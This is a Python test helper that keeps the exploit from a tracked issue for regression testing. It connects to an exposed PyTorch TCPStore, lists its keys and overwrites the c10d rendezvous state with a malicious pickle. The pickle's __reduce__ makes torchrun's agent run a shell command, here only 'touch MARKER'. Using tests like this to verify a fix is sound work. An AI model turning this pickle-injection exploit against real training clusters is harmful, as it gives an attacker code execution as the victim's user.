"""The attack of issue 38, kept: reach a torch store on a port, list its keys (so torchrun's
random run id is no secret) and write a pickle where the c10d rendezvous reads its state;
torchrun's agent unpickles it within seconds and runs `touch MARKER` as its user.

    python -m tests.hostile.store_attack HOST PORT MARKER

Prints one line: "store: <keys>" when a store answered (and was written), or "no store: ...".
Run as a subprocess, so that a client stuck on a port that is not a store cannot hang a test.
"""

from __future__ import annotations

import base64
import os
import pickle
import sys
from datetime import timedelta


class Payload:
    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def attack(host: str, port: int, marker: str) -> str:
    import torch.distributed as dist

    try:
        store = dist.TCPStore(host, port, is_master=False, timeout=timedelta(seconds=3),
                              wait_for_workers=False)
        keys = store.list_keys()
    except Exception as exc:  # noqa: BLE001 - any failure means no store answered
        return f"no store: {type(exc).__name__}"
    blob = base64.b64encode(pickle.dumps(Payload(marker)))
    for key in keys:
        if key.startswith("torch.rendezvous."):
            store.set(key, blob)
    return f"store: {sorted(keys)}"


if __name__ == "__main__":
    print(attack(sys.argv[1], int(sys.argv[2]), sys.argv[3]), flush=True)
